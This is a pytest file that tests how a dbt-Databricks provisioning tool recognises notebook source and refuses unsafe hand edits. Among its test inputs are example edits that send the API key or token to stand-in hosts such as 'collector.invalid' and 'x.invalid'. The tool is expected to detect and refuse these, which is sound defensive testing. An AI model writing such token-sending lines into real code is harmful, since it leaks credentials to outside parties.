"""`dbtwf adopt`'s recognition of a notebook's source (pure: no server)."""

from __future__ import annotations

import pytest

from provision.adopt.recognise import backup_header, recognise
from provision.desired import render_runner_notebook
from tests.guide_workspace import GUIDE_CODE, guide_source, refused_edit, seed_code, tolerated_edit
from tests.provision_helpers import make_env

WANTED = {
    "dbt_cloud_host": "ab123.us1.dbt.com",
    "dbt_cloud_account_id": 4321,
    "secret_scope": "dbt-cloud",
    "secret_key": "api-key",
}


def test_the_guide_code_kept_here_is_the_seed_files() -> None:
    found = seed_code()
    if found is None:
        pytest.skip("the guide's seed file is not on this machine")
    assert found == GUIDE_CODE


def test_the_guides_code_as_pasted_is_read_off() -> None:
    found = recognise(guide_source("ab123.us1.dbt.com", 4321))
    assert (found.kind, found.values, found.missing) == ("guide", WANTED, ())


def test_placeholders_left_in_are_missing_values_not_a_refusal() -> None:
    found = recognise("# Databricks notebook source\n" + GUIDE_CODE)
    assert found.kind == "guide"
    assert found.missing == ("dbt_cloud_host", "dbt_cloud_account_id", "secret_scope", "secret_key")


@pytest.mark.parametrize("host", ["ab123.us1.dbt.com", "https://ab123.us1.dbt.com"])
def test_hand_edits_are_read_through(host: str) -> None:
    found = recognise(tolerated_edit(host, 4321))
    assert (found.kind, found.values) == ("guide", WANTED)


def test_a_host_with_another_scheme_is_kept_with_it() -> None:
    found = recognise(guide_source("http://127.0.0.1:8080", 4321))
    assert found.values["dbt_cloud_host"] == "http://127.0.0.1:8080"


@pytest.mark.parametrize(
    ("edit", "why"),
    [
        (lambda s: refused_edit("ab123.us1.dbt.com", 4321), "host is computed at run time"),
        (
            lambda s: s.replace('scope = "dbt-cloud"', 'scope = dbutils.widgets.get("scope")'),
            "secret scope is dbutils.widgets.get",
        ),
        (
            lambda s: s.replace(
                'url=f"https://{base_url}/api/v2/accounts/{account_id}/runs/',
                'url=f"https://collector.invalid/',
            ),
            "token is handed to requests.get(https://collector.invalid/",
        ),
        (
            lambda s: s.replace("account_id = 4321", "account_id = os.environ['ACCOUNT']"),
            "account is computed",
        ),
        (lambda s: s.replace('dbutils.widgets.get("job_id")', "222"), "job_id widget"),
        (lambda s: s + "\nrequests.post('https://x.invalid', data=api_key)\n", "x.invalid"),
    ],
)
def test_unsafe_edits_are_refused_with_why(edit: object, why: str) -> None:
    source = edit(guide_source("ab123.us1.dbt.com", 4321))  # type: ignore[operator]
    found = recognise(source)
    assert found.kind == "refused"
    assert why in found.reason


def test_dbtwfs_runner_and_its_backup_are_not_the_guides_code() -> None:
    runner = render_runner_notebook(make_env())
    assert "dbutils.secrets.get" in runner and "/api/v2/accounts/" in runner
    assert recognise(runner, "/Users/me/dbt/trigger").kind == "runner"
    backup = backup_header("/Users/me/dbt/trigger", "0" * 64) + "\n" + guide_source("h.dbt.com", 1)
    assert recognise(backup, "/Users/me/dbt/somewhere_else").kind == "backup"
    assert recognise(guide_source("h.dbt.com", 1), "/Users/me/dbt/x.dbtwf-backup.py").kind == "backup"


def test_anything_else_is_other() -> None:
    assert recognise("print('hello')").kind == "other"
    assert recognise("import requests\nrequests.get('https://x.invalid/api/v2/accounts/')").kind == "other"
